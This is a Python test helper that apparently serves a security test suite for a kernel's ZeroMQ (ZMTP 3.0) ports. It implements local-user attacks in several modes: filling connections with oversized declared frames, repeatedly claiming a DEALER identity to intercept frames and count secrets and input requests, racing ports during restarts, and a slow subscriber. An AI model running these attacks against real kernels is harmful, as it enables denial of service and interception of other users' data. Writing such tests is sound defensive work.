"""A keyless local user's attacks on a kernel's ports, run by peers.py as
another real user (setpriv) with Debian's /usr/bin/python3: standard
library only, raw ZMTP 3.0 over TCP. argv: mode ip port [args]; runs until
stdin closes, then prints one JSON line of counters.

mode     args                  what it does
fill     conns size            conns connections, each sending a frame header
                               that declares size bytes and all but one of
                               them, then holding; reconnecting when closed
claim    identity              connects as a DEALER with identity again and
                               again; counts claims kept and frames received
race     identity port...      claim on port and on each port after identity,
                               pausing 1 ms between tries (a restart's ports
                               are closed for a while): counts tries that
                               found no port as "unreachable", frames with
                               an input_request as "got_input"; prints
                               "started" once each port was tried
slowsub  bytes_per_s           a SUB subscribed to everything, reading at
                               that rate (never stalled)
"""

import json
import socket
import struct
import sys
import threading
import time

from zmtpraw import GREETING, frame, ready

STOP = threading.Event()
COUNT = {}
LOCK = threading.Lock()


def add(name, n=1):
    with LOCK:
        COUNT[name] = COUNT.get(name, 0) + n


def recv_exact(s, n):
    buf = b""
    while len(buf) < n:
        b = s.recv(n - len(buf))
        if not b:
            raise EOFError
        buf += b
    return buf


def recv_frame(s):
    flags = recv_exact(s, 1)[0]
    size = struct.unpack(">Q", recv_exact(s, 8))[0] if flags & 0x02 else recv_exact(s, 1)[0]
    return flags, recv_exact(s, size)


def connect(ip, port, sock_type, identity=None, rcvbuf=None, failed="refused"):
    """A handshaken connection, or None (counted as failed)."""
    try:
        s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET)
        if rcvbuf:  # a small window: the writer sees the pace of the reads
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.settimeout(3)
        s.connect((ip, port))
        s.sendall(GREETING + ready(sock_type, identity))
        recv_exact(s, 64)
        flags, body = recv_frame(s)
        if not flags & 0x04:
            raise EOFError
        s.settimeout(None)
        return s
    except (OSError, EOFError):
        add(failed)
        return None


OPEN = set()  # the sockets to shut down when the attack stops


def closer(s):
    """Shut s down when the attack stops (unblocks its reader). One set for
    all, not a thread per socket: the claim loop makes thousands a minute,
    and as many waiting threads slowed the attacker's own exit past the
    test's 30 s (CI, under -race)."""
    with LOCK:
        OPEN.add(s)
    if STOP.is_set():
        shut_all()


def forget(s):
    with LOCK:
        OPEN.discard(s)
    s.close()


def shut_all():
    with LOCK:
        socks = list(OPEN)
    for s in socks:
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def fill(ip, port, size):
    chunk = b"\x00" * (256 << 10)
    while not STOP.is_set():
        s = connect(ip, port, b"DEALER")
        if s is None:
            time.sleep(0.02)
            continue
        closer(s)
        try:
            s.sendall(bytes([0x02]) + struct.pack(">Q", size))
            left = size - 1
            while left > 0 and not STOP.is_set():
                n = s.send(chunk[: min(left, len(chunk))])
                left -= n
                add("bytes_sent", n)
            add("held")
            while s.recv(65536):
                pass
        except OSError:
            pass
        add("closed")
        forget(s)


TRIED = threading.Semaphore(0)  # race: released once per port after its first try


def claim(ip, port, identity, race=False):
    first_try = race
    while not STOP.is_set():
        s = connect(ip, port, b"DEALER", identity, failed="unreachable" if race else "refused")
        if first_try:
            TRIED.release()
            first_try = False
        if s is None:
            if race:
                time.sleep(0.001)
            continue  # hammer: the race is the attack
        closer(s)
        s.settimeout(0.5)  # a refused claim is closed at once
        first = True
        try:
            while True:
                try:
                    flags, body = recv_frame(s)
                except socket.timeout:
                    if first:
                        add("claimed")
                        s.settimeout(None)
                        first = False
                        continue
                    raise
                first = False
                if not flags & 0x04:
                    add("got")
                    if b"SECRET" in body:
                        add("got_secret")
                    if b"input_request" in body:
                        add("got_input")
        except (OSError, EOFError):
            if first:
                add("refused")
        forget(s)
        if race:
            time.sleep(0.001)


def slowsub(ip, port, rate):
    s = connect(ip, port, b"SUB", rcvbuf=64 << 10)
    if s is None:
        return
    closer(s)
    s.sendall(frame(b"\x01"))
    step = max(rate // 20, 1)
    try:
        while not STOP.is_set():
            got = 0
            while got < step:  # exactly rate bytes a second: slow, never stalled
                b = s.recv(step - got)
                if not b:
                    return
                got += len(b)
            add("bytes", got)
            time.sleep(0.05)
    except OSError:
        pass


def main():
    mode, ip, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    args = sys.argv[4:]
    threads = []
    if mode == "fill":
        for _ in range(int(args[0])):
            threads.append(threading.Thread(target=fill, args=(ip, port, int(args[1]))))
    elif mode == "claim":
        threads.append(threading.Thread(target=claim, args=(ip, port, args[0].encode())))
    elif mode == "race":
        for p in [port] + [int(a) for a in args[1:]]:
            threads.append(threading.Thread(target=claim, args=(ip, p, args[0].encode(), True)))
    elif mode == "slowsub":
        threads.append(threading.Thread(target=slowsub, args=(ip, port, int(args[0]))))
    else:
        sys.exit("unknown mode %r" % mode)
    for t in threads:
        t.daemon = True
        t.start()
    if mode == "race":
        for _ in threads:
            TRIED.acquire()
    print("started", flush=True)
    sys.stdin.read()
    STOP.set()
    shut_all()
    for t in threads:
        t.join(10)
    print(json.dumps(COUNT), flush=True)


main()
